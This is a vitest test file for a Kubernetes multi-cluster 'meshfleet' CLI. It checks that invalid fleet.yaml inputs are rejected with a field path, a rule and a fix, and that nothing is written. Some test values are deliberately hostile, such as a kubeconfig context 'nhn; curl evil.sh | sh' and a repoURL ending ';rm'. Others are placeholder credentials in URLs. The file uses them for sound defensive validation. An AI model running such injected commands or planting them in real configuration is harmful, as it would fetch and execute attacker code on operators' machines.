/**
 * Bad fleet.yaml input: every case fails with a message naming the field path (and its rule), and
 * the output folder is byte-for-byte what it was before.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Document } from 'yaml';
import { synth } from '../../lib/cli/synth';
import { FleetError } from '../../lib/errors';
import { loadFleet } from '../../lib/pipeline';
import { MIN_VALIDITY_DAYS } from '../../lib/fleet/schema';
import { EXPIRY_WARNING_DAYS } from '../../lib/pki/status';
import { DEFAULT_FLEET, editFleet, fixture, hashTree, runCli, synthFleet } from '../helpers';

type Edit = (doc: Document) => void;
const set = (path: (string | number)[], value: unknown): Edit => (doc) => doc.setIn(path, value);
const del = (path: (string | number)[]): Edit => (doc) => doc.deleteIn(path);

interface Case {
  name: string;
  edit?: Edit;
  text?: string;
  path: string;
  rule: RegExp;
}

const cases: Case[] = [
  { name: 'wrong apiVersion', edit: set(['apiVersion'], 'meshfleet.io/v1'), path: 'apiVersion', rule: /must be "meshfleet.io\/v1alpha1"/ },
  { name: 'wrong kind', edit: set(['kind'], 'Mesh'), path: 'kind', rule: /must be "Fleet"/ },
  { name: 'fleet name not DNS-1123', edit: set(['metadata', 'name'], 'KPaaS_CSP'), path: 'metadata.name', rule: /required format/ },
  { name: 'no clusters field', edit: del(['spec', 'clusters']), path: 'spec.clusters', rule: /required field "clusters" is missing/ },
  { name: 'empty cluster list', edit: set(['spec', 'clusters'], []), path: 'spec.clusters', rule: /at least 1/ },
  { name: 'duplicate cluster name', edit: set(['spec', 'clusters', 1, 'name'], 'kt-k2p'), path: 'spec.clusters[1].name', rule: /name must be unique across clusters; spec.clusters\[0\]/ },
  { name: 'duplicate context', edit: set(['spec', 'clusters', 2, 'context'], 'kt'), path: 'spec.clusters[2].context', rule: /context must be unique/ },
  { name: 'duplicate network', edit: set(['spec', 'clusters', 1, 'network'], 'network1'), path: 'spec.clusters[1].network', rule: /network must be unique/ },
  { name: 'upper-case cluster name', edit: set(['spec', 'clusters', 0, 'name'], 'KT-K2P'), path: 'spec.clusters[0].name', rule: /required format/ },
  { name: 'operator is not an age recipient', edit: set(['spec', 'secrets', 'operators', 0], 'ssh-ed25519 AAAA'), path: 'spec.secrets.operators[0]', rule: /required format/ },
  { name: 'cluster recipient is truncated', edit: set(['spec', 'clusters', 1, 'ageRecipient'], 'age1a09cy45256lkhypq0lny2umwml5uhn67c3'), path: 'spec.clusters[1].ageRecipient', rule: /required format/ },
  { name: 'cluster key is an operator key (issue 21 item 2)', edit: (d) => d.setIn(['spec', 'clusters', 2, 'ageRecipient'], d.getIn(['spec', 'secrets', 'operators', 0])), path: 'spec.clusters[2].ageRecipient', rule: /is operator 1's key \(spec\.secrets\.operators\[0\]\): cluster nhn-nks's in-cluster identity .* would open everything encrypted to the operators, the CA root key/ },
  { name: 'two clusters share a key (issue 21 item 2)', edit: (d) => d.setIn(['spec', 'clusters', 1, 'ageRecipient'], d.getIn(['spec', 'clusters', 0, 'ageRecipient'])), path: 'spec.clusters[1].ageRecipient', rule: /must be unique across clusters; spec\.clusters\[0\] \(kt-k2p\) has this key already: each of kt-k2p and ncloud-nks would open the other's CA key/ },
  { name: 'Istio version not semver', edit: set(['spec', 'mesh', 'istio', 'version'], '1.26'), path: 'spec.mesh.istio.version', rule: /required format/ },
  { name: 'Istio version unquoted number', text: DEFAULT_FLEET.replace('version: "1.30.3"', 'version: 1.26'), path: 'spec.mesh.istio.version', rule: /must be a string, not a number/ },
  { name: 'Istio older than 1.24', edit: set(['spec', 'mesh', 'istio', 'version'], '1.22.3'), path: 'spec.mesh.istio.version', rule: /not a release meshfleet has tested charts for \(and .* needs 1.24 or later.*supported: 1.26.8, 1.27.9, 1.28.10, 1.29.6, 1.30.3/ },
  { name: 'Istio release without tested charts', edit: set(['spec', 'mesh', 'istio', 'version'], '1.26.99'), path: 'spec.mesh.istio.version', rule: /is not a release meshfleet has tested charts for; supported: 1.26.8, 1.27.9, 1.28.10, 1.29.6, 1.30.3$/m },
  { name: 'kubeconfig context with shell syntax', edit: set(['spec', 'clusters', 2, 'context'], 'nhn; curl evil.sh | sh'), path: 'spec.clusters[2].context', rule: /required format/ },
  { name: 'API server on IPv4-mapped loopback', edit: set(['spec', 'clusters', 0, 'apiServer'], 'https://[::ffff:127.0.0.1]:6443'), path: 'spec.clusters[0].apiServer', rule: /a loopback address only works on this machine/ },
  { name: 'API server on the unspecified address', edit: set(['spec', 'clusters', 0, 'apiServer'], 'https://0.0.0.0:6443'), path: 'spec.clusters[0].apiServer', rule: /the unspecified address only works on this machine/ },
  { name: 'gateway on loopback', edit: set(['spec', 'clusters', 1, 'gateway'], { address: '127.0.0.2' }), path: 'spec.clusters[1].gateway.address', rule: /loopback address only works/ },
  { name: 'interval of zero', edit: set(['spec', 'gitops', 'interval'], '0s'), path: 'spec.gitops.interval', rule: /must be between 30s and 24h/ },
  { name: 'interval of centuries', edit: set(['spec', 'gitops', 'interval'], '99999999999999h'), path: 'spec.gitops.interval', rule: /must be between 30s and 24h/ },
  { name: 'branch git refuses', edit: set(['spec', 'gitops', 'branch'], 'a/../..lock'), path: 'spec.gitops.branch', rule: /not a valid git branch name: contains "\.\."/ },
  { name: 'repoURL with shell syntax', edit: set(['spec', 'gitops', 'repoURL'], 'https://git.example.com/x.git;rm'), path: 'spec.gitops.repoURL', rule: /required format/ },
  { name: 'age secret key pasted as a recipient', edit: set(['spec', 'secrets', 'operators', 0], `AGE-SECRET-KEY-1${'QQPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L'.repeat(2).slice(0, 58)}` /* built at run time: not a real key, and no literal for the secret scan */), path: 'spec.secrets.operators[0]', rule: /is an age SECRET key, which must never be in fleet.yaml or git/ },
  { name: 'gateway address not an address', edit: set(['spec', 'clusters', 0, 'gateway', 'address'], 'not an ip!'), path: 'spec.clusters[0].gateway.address', rule: /IPv4 or IPv6 address or a DNS name/ },
  { name: 'API server over http', edit: set(['spec', 'clusters', 0, 'apiServer'], 'http://203.0.113.1:6443'), path: 'spec.clusters[0].apiServer', rule: /must use https/ },
  { name: 'API server on loopback', edit: set(['spec', 'clusters', 2, 'apiServer'], 'https://127.0.0.1:6443'), path: 'spec.clusters[2].apiServer', rule: /loopback/ },
  { name: 'misspelt field', text: DEFAULT_FLEET.replace('network: network2', 'netwrok: network2'), path: 'spec.clusters[1].netwrok', rule: /unknown field "netwrok"/ },
  { name: 'unknown CNI', edit: set(['spec', 'clusters', 2, 'cni'], 'flannel'), path: 'spec.clusters[2].cni', rule: /must be one of "calico", "cilium", "other"/ },
  { name: 'unknown mesh type', edit: set(['spec', 'mesh', 'type'], 'consul'), path: 'spec.mesh.type', rule: /must be one of "istio", "linkerd", "cilium", "none"/ },
  { name: 'unsupported Linkerd version', edit: (d) => d.setIn(['spec', 'mesh'], d.createNode({ type: 'linkerd', linkerd: { version: '2.14' } })), path: 'spec.mesh.linkerd.version', rule: /must be one of "2.18"/ },
  { name: 'root valid for less than check\'s warning window (issue 21 item 9)', edit: set(['spec', 'mesh', 'istio', 'ca'], { rootValidityDays: 30 }), path: 'spec.mesh.istio.ca.rootValidityDays', rule: /must be at least 60|from 60 \(twice check's 30-day expiry warning\)/ },
  { name: 'Linkerd issuer valid for 31 days (issue 21 item 9)', edit: (d) => d.setIn(['spec', 'mesh'], d.createNode({ type: 'linkerd', linkerd: { ca: { issuerValidityDays: 31 } } })), path: 'spec.mesh.linkerd.ca.issuerValidityDays', rule: /from 60/ },
  { name: 'unsupported GitOps engine', edit: set(['spec', 'gitops', 'engine'], 'jenkins'), path: 'spec.gitops.engine', rule: /must be one of "flux", "argocd"/ },
  { name: 'interval not a duration', edit: set(['spec', 'gitops', 'interval'], 'ten minutes'), path: 'spec.gitops.interval', rule: /required format/ },
  { name: 'unknown reviews version', edit: set(['spec', 'clusters', 0, 'samples'], { reviews: ['v4'] }), path: 'spec.clusters[0].samples.reviews[0]', rule: /must be one of "v1", "v2", "v3"/ },
  { name: 'missing API server', edit: del(['spec', 'clusters', 1, 'apiServer']), path: 'spec.clusters[1].apiServer', rule: /required field "apiServer" is missing/ },
  { name: 'MetalLB pools overlap on one network', edit: (d) => { d.setIn(['spec', 'clusters', 2, 'metallb'], d.createNode({ addresses: ['203.0.113.0/24'] })); d.setIn(['spec', 'clusters', 2, 'network'], 'network1'); }, path: 'spec.clusters[2].metallb.addresses[0]', rule: /overlaps spec.clusters\[0\].metallb.addresses\[0\] \(203.0.113.10\/32\); kt-k2p and nhn-nks are on one network, where two MetalLB pools handing out one address make it answer on both clusters/ },
  { name: 'a pool that lists one address twice', edit: set(['spec', 'clusters', 0, 'metallb', 'addresses'], ['203.0.113.10/32', '203.0.113.8/30']), path: 'spec.clusters[0].metallb.addresses[1]', rule: /a pool's ranges must not overlap/ },
  { name: 'a MetalLB meshfleet does not install, of no stated release (issue 20 item 4)', edit: set(['spec', 'clusters', 0, 'metallb', 'install'], false), path: 'spec.clusters[0].metallb', rule: /install: false needs metallb.version, the release the cluster runs[\s\S]*metallb.universe.tf\/loadBalancerIPs before 0.14.9/ },
  { name: 'a MetalLB before 0.13 (ConfigMap configuration)', edit: (d) => { d.setIn(['spec', 'clusters', 0, 'metallb', 'install'], false); d.setIn(['spec', 'clusters', 0, 'metallb', 'version'], '0.12.1'); }, path: 'spec.clusters[0].metallb.version', rule: /is configured by a ConfigMap/ },
  { name: 'existingPool with install: true', edit: set(['spec', 'clusters', 0, 'metallb', 'existingPool'], 'primary'), path: 'spec.clusters[0].metallb.existingPool', rule: /install: true installs MetalLB here/ },
  { name: 'existingPool with announce', edit: (d) => { d.setIn(['spec', 'clusters', 0, 'metallb', 'install'], false); d.setIn(['spec', 'clusters', 0, 'metallb', 'version'], '0.14.9'); d.setIn(['spec', 'clusters', 0, 'metallb', 'existingPool'], 'primary'); d.setIn(['spec', 'clusters', 0, 'metallb', 'announce'], 'l2'); }, path: 'spec.clusters[0].metallb.announce', rule: /has no effect with existingPool/ },
  { name: 'gateway.serviceAddress not an IP (issue 20 item 3)', edit: set(['spec', 'clusters', 0, 'gateway', 'serviceAddress'], 'gw.example.com'), path: 'spec.clusters[0].gateway.serviceAddress', rule: /must be an IPv4 or IPv6 address: the gateway Service asks MetalLB for it/ },
  { name: 'gateway.serviceAddress outside its pool (issue 20 item 3)', edit: set(['spec', 'clusters', 0, 'gateway', 'serviceAddress'], '10.0.0.240'), path: 'spec.clusters[0].gateway.serviceAddress', rule: /must lie inside this cluster's MetalLB pool \(203.0.113.10\/32\)/ },
  { name: 'gateway.serviceAddress without gateway.address (issue 20 item 3)', edit: (d) => { d.setIn(['spec', 'clusters', 0, 'gateway'], d.createNode({ serviceAddress: '203.0.113.10' })); }, path: 'spec.clusters[0].gateway.serviceAddress', rule: /is only needed where the other clusters dial a different address/ },
  { name: 'gateway.serviceAddress where nothing assigns it (issue 20 item 3)', edit: set(['spec', 'clusters', 2, 'gateway'], { address: '192.0.2.30', serviceAddress: '10.0.0.30' }), path: 'spec.clusters[2].gateway.serviceAddress', rule: /nothing in nhn-nks assigns the gateway's LoadBalancer Service the address it asks for/ },
  { name: 'pinned gateway outside its pool', edit: set(['spec', 'clusters', 0, 'gateway', 'address'], '203.0.113.11'), path: 'spec.clusters[0].gateway.address', rule: /inside this cluster's MetalLB pool/ },
  { name: 'two clusters announce one gateway address (issue 21 item 8)', edit: set(['spec', 'clusters', 2, 'gateway'], { address: '203.0.113.10' }), path: 'spec.clusters[2].gateway.address', rule: /is already kt-k2p's gateway address \(spec.clusters\[0\].gateway.address\): the other clusters would send nhn-nks's cross-cluster traffic to whichever of the two answers there/ },
  { name: 'one IPv6 gateway address in two spellings (issue 21 item 8)', edit: (d) => { d.setIn(['spec', 'clusters', 1, 'gateway'], d.createNode({ address: '2001:db8::10' })); d.setIn(['spec', 'clusters', 2, 'gateway'], d.createNode({ address: '2001:0DB8:0:0::10' })); }, path: 'spec.clusters[2].gateway.address', rule: /is already ncloud-nks's gateway address/ },
  { name: 'a gateway address inside another cluster\'s MetalLB pool (issue 21 item 8)', edit: (d) => { d.setIn(['spec', 'clusters', 0, 'metallb', 'addresses', 0], '203.0.113.10-203.0.113.20'); d.setIn(['spec', 'clusters', 2, 'gateway'], d.createNode({ address: '203.0.113.15' })); }, path: 'spec.clusters[2].gateway.address', rule: /lies inside kt-k2p's MetalLB pool \(spec.clusters\[0\].metallb.addresses\[0\]: 203.0.113.10-203.0.113.20\): kt-k2p's MetalLB may give it to one of kt-k2p's own Services/ },
  { name: 'MetalLB pool of every address (issue 21 item 9)', edit: set(['spec', 'clusters', 0, 'metallb', 'addresses', 0], '0.0.0.0/0'), path: 'spec.clusters[0].metallb.addresses[0]', rule: /includes 0.0.0.0\/8 \(the unspecified "this network" block\), which no LoadBalancer Service can be given/ },
  { name: 'MetalLB pool on loopback', edit: set(['spec', 'clusters', 0, 'metallb', 'addresses', 0], '127.0.0.10-127.0.0.20'), path: 'spec.clusters[0].metallb.addresses[0]', rule: /includes 127.0.0.0\/8 \(loopback\)/ },
  { name: 'MetalLB address not a CIDR or range', edit: set(['spec', 'clusters', 0, 'metallb', 'addresses', 0], '203.0.113.10'), path: 'spec.clusters[0].metallb.addresses[0]', rule: /CIDR or a first-last/ },
  { name: 'cilium settings on a Calico cluster', edit: (d) => d.setIn(['spec', 'clusters', 2, 'cilium'], d.createNode({ managed: true })), path: 'spec.clusters[2].cilium', rule: /only apply to clusters with cni: cilium/ },
  { name: 'insecure kubelet flag hidden in args', edit: (d) => d.setIn(['spec', 'clusters', 0, 'metricsServer', 'args'], d.createNode(['--kubelet-insecure-tls'])), path: 'spec.clusters[0].metricsServer.args[0]', rule: /has a field of its own/ },
  { name: 'unknown announce mode', edit: set(['spec', 'clusters', 0, 'metallb', 'announce'], 'bgp'), path: 'spec.clusters[0].metallb.announce', rule: /must be one of "none", "l2"/ },
  { name: 'token in repoURL', edit: set(['spec', 'gitops', 'repoURL'], 'https://ghp_secret123@git.example.com/platform/fleet.git'), path: 'spec.gitops.repoURL', rule: /"https:\/\/\*\*\*@git.example.com[\s\S]*carries a user name or token in the URL[\s\S]*flux bootstrap git --username/ },
  { name: 'user and password in repoURL', edit: set(['spec', 'gitops', 'repoURL'], 'https://user:hunter2@git.example.com/fleet.git'), path: 'spec.gitops.repoURL', rule: /carries a password or token/ },
  { name: 'password in an ssh repoURL', edit: set(['spec', 'gitops', 'repoURL'], 'ssh://git:hunter2@git.example.com/fleet.git'), path: 'spec.gitops.repoURL', rule: /carries a password or token/ },
  { name: 'password-only API server credentials', edit: set(['spec', 'clusters', 0, 'apiServer'], 'https://:hunter2@203.0.113.1:6443'), path: 'spec.clusters[0].apiServer', rule: /"https:\/\/\*\*\*@203[\s\S]*no path, query or credentials/ },
  { name: 'YAML syntax error', text: DEFAULT_FLEET.replace('  clusters:\n', '  clusters:\n   - : [\n'), path: '(top level)', rule: /YAML syntax/ },
  { name: 'two YAML documents (issue 21 item 14)', text: `${DEFAULT_FLEET}---\n${DEFAULT_FLEET}`, path: '(top level)', rule: /rule:  holds more than one YAML document \(the `---` line at the position shown starts another\): a fleet.yaml is one fleet\n/ },
  { name: 'nested a thousand levels deep (issue 21 item 14)', text: `${DEFAULT_FLEET}x: ${'['.repeat(1000)}${']'.repeat(1000)}\n`, path: '(top level)', rule: /rule:  is nested too deeply to read/ },
];

describe('invalid fleet.yaml', () => {
  let dir: string;
  let before: Record<string, string>;
  beforeAll(async () => {
    ({ dir } = await synthFleet());
    before = hashTree(dir);
  });

  it.each(cases)('$name: names $path, writes nothing', async ({ edit, text, path, rule }) => {
    const bad = text ?? editFleet(edit!);
    writeFileSync(join(dir, 'fleet.yaml'), bad);
    let error: unknown;
    try {
      await synth({ fleet: join(dir, 'fleet.yaml'), out: join(dir, 'dist'), check: false });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(FleetError);
    const message = (error as FleetError).message;
    expect(message).toContain(`  ${path}`);
    expect(message).toMatch(rule);
    expect(message).toMatch(/fix: {3}\S/);
    writeFileSync(join(dir, 'fleet.yaml'), fixture().fleetText);
    expect(hashTree(dir)).toEqual(before);
  });

  it('the shortest lifetime accepted passes check for a month (MIN_VALIDITY_DAYS keeps pace with EXPIRY_WARNING_DAYS)', () => {
    expect(MIN_VALIDITY_DAYS).toBeGreaterThanOrEqual(EXPIRY_WARNING_DAYS * 2);
  });

  it('prints where, value, rule and fix exactly', () => {
    const bad = editFleet(set(['spec', 'clusters', 1, 'network'], 'network1'));
    expect(() => loadFleet(bad)).toThrowError(
      [
        'fleet.yaml is not valid (1 problem):',
        '',
        '  fleet.yaml:46:16  spec.clusters[1].network',
        '    value: "network1"',
        '    rule:  network must be unique across clusters; spec.clusters[0] has network "network1" already',
        '    fix:   give every cluster its own network (multi-primary on different networks), e.g. network1, network2, ...',
      ].join('\n'),
    );
  });

  it('never prints a credential it refuses', () => {
    const bad = editFleet(set(['spec', 'gitops', 'repoURL'], 'https://user:hunter2@git.example.com/fleet.git'));
    expect(() => loadFleet(bad)).toThrowError(FleetError);
    try {
      loadFleet(bad);
    } catch (e) {
      expect((e as Error).message).not.toContain('hunter2');
    }
  });

  it('an ssh repoURL naming the deploy key\'s login user is accepted', () => {
    expect(() => loadFleet(editFleet(set(['spec', 'gitops', 'repoURL'], 'ssh://git@git.example.com/platform/fleet.git')))).not.toThrow();
  });

  it('reports every problem at once', () => {
    const bad = editFleet((doc) => {
      doc.setIn(['spec', 'clusters', 0, 'cni'], 'flannel');
      doc.setIn(['spec', 'clusters', 2, 'name'], 'Bad_Name');
    });
    const error = (() => {
      try {
        loadFleet(bad);
      } catch (e) {
        return e as FleetError;
      }
      return undefined;
    })();
    expect(error?.problems.map((p) => p.path)).toEqual(['spec.clusters[0].cni', 'spec.clusters[2].name']);
  });

  it('the CLI exits 1 with the message and no stack trace', async () => {
    const d = (await synthFleet()).dir;
    const before2 = hashTree(d);
    writeFileSync(join(d, 'fleet.yaml'), editFleet(set(['spec', 'clusters', 0, 'cni'], 'flannel')));
    const r = runCli(['--fleet', join(d, 'fleet.yaml'), '--out', join(d, 'dist')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('spec.clusters[0].cni');
    expect(r.stderr).toContain('Nothing was written.');
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(hashTree(d)).toEqual({ ...before2, 'fleet.yaml': hashTree(d)['fleet.yaml'] });
  });
});

